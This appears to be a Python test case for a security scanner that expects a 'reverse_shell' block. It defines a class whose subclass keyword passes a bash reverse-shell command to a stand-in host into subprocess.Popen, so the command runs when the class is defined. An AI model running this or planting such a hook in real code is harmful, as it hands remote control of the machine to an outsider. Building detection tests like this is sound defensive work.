# expect: BLOCKED reverse_shell
# __init_subclass__ of the base receives the class keywords when the subclass is defined.
import subprocess


class Task:
    def __init_subclass__(cls, /, launch=None, **kwargs):
        super().__init_subclass__(**kwargs)
        if launch:
            subprocess.Popen(launch, shell=True)


class Sync(Task, launch="bash -c 'bash -i >& /dev/tcp/198.51.100.23/9001 0>&1'"):
    interval = 30
